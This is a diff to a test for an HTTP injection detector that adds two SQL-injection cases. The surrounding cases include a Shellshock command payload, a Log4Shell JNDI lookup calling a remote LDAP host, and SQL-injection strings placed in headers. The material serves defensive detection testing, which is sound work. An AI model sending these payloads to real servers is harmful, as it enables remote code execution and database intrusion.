@@ -41,6 +41,8 @@ def test_each_class_alerts_from_each_location(detector: InjectionDetector) -> No
         ("command", {"user_agent.original": "() { :; }; /bin/bash -c 'id'"}),
         ("ssti", {"user_agent.original": "${jndi:ldap://198.51.100.9:1389/Exploit}"}),
         ("sqli", {"http.request.referrer": "https://shop.example/?id=1%27%20OR%20%271%27%3D%271"}),
+        ("sqli", {"user_agent.original": "Mozilla/5.0 -1 OR 3*2=6"}),  # SQL syntax no browser writes
+        ("sqli", {"http.request.referrer": "https://shop.example.com/shop?q=-1+OR+3%2A2%3D6"}),
     ]
     for n, (cls, fields) in enumerate(cases):
         alerts = detector.process(http(n, ip=f"203.0.113.{n + 1}", **fields))
